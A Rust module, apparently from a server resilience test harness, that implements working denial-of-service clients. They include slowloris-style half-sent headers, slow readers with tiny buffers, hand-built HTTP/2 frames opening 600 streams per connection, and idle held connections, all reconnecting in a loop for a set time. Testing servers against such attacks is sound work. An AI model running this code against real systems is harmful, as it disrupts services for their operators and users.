//! The attackers. Whoever is closed comes back, until the time is over.

use std::cell::Cell;
use std::io;
use std::net::SocketAddr;
use std::rc::Rc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::LocalSet;
use tokio::time::sleep;

use super::Attack;

/// Before a connection that was closed is made again.
const REST: Duration = Duration::from_millis(200);
/// The requests on one connection of HTTP/2.
const STREAMS: u32 = 600;

/// Attacks for so long; answers how many connections were opened.
pub(super) async fn attack(
    attack: Attack,
    address: SocketAddr,
    (many, path): (u32, &str),
    lasting: Duration,
) -> u64 {
    let count = match attack {
        Attack::None => 0,
        Attack::Silent | Attack::HalfHeads | Attack::Files => many,
        Attack::Readers => 60,
        Attack::Streams => 20,
    };
    // A connection with too many streams is closed at once, and what is to be measured is not how fast calls are refused.
    let rest = if attack == Attack::Streams { REST * 25 } else { REST };
    let opened = Rc::new(Cell::new(0));
    let clients = LocalSet::new();
    for _ in 0..count {
        let (opened, path) = (Rc::clone(&opened), path.to_owned());
        clients.spawn_local(async move {
            loop {
                // A small buffer, as a slow reader has.
                let small = (attack == Attack::Readers).then_some(4096);
                if let Ok(stream) = connect(address, small).await {
                    opened.set(opened.get() + 1);
                    // However it ends, the next one begins.
                    let _ = hold(attack, stream, &path).await;
                }
                sleep(rest).await;
            }
        });
    }
    // Dropping the set drops the clients.
    clients.run_until(sleep(lasting)).await;
    opened.get()
}

async fn connect(address: SocketAddr, buffer: Option<u32>) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    if let Some(octets) = buffer {
        socket.set_recv_buffer_size(octets)?;
    }
    socket.connect(address).await
}

/// Holds a connection until it is closed.
async fn hold(attack: Attack, mut stream: TcpStream, path: &str) -> io::Result<()> {
    match attack {
        Attack::None | Attack::Silent | Attack::Files => until_closed(&mut stream).await,
        Attack::HalfHeads => {
            stream.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Long: ").await?;
            loop {
                sleep(Duration::from_secs(5)).await;
                stream.write_all(b"a").await?;
            }
        }
        Attack::Readers => {
            stream.write_all(format!("GET {path} HTTP/1.1\r\nHost: x\r\n\r\n").as_bytes()).await?;
            let mut little = [0; 256];
            while stream.read(&mut little).await? > 0 {
                sleep(Duration::from_secs(1)).await;
            }
            Ok(())
        }
        Attack::Streams => {
            stream.write_all(&many_streams()).await?;
            until_closed(&mut stream).await
        }
    }
}

async fn until_closed(stream: &mut TcpStream) -> io::Result<()> {
    let mut read = [0; 4096];
    while stream.read(&mut read).await? > 0 {}
    Ok(())
}

/// A preface, and requests with the beginning of a body each (RFC 9113 §3.4, §6).
fn many_streams() -> Vec<u8> {
    let mut sent = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    frame(&mut sent, (4, 0, 0), &[]);
    // POST, http, a path and an authority (RFC 7541 appendix A).
    let head = [&[0x83, 0x86, 0x04, 10][..], b"/v1/pki/ca", &[0x01, 1, b'x']].concat();
    for number in 0..STREAMS {
        let stream = number * 2 + 1;
        frame(&mut sent, (1, 4, stream), &head);
        frame(&mut sent, (0, 0, stream), &[b' '; 1_000]);
    }
    sent
}

fn frame(sent: &mut Vec<u8>, (kind, flags, stream): (u8, u8, u32), payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    sent.extend_from_slice(&length[1..]);
    sent.extend_from_slice(&[kind, flags]);
    sent.extend_from_slice(&stream.to_be_bytes());
    sent.extend_from_slice(payload);
}
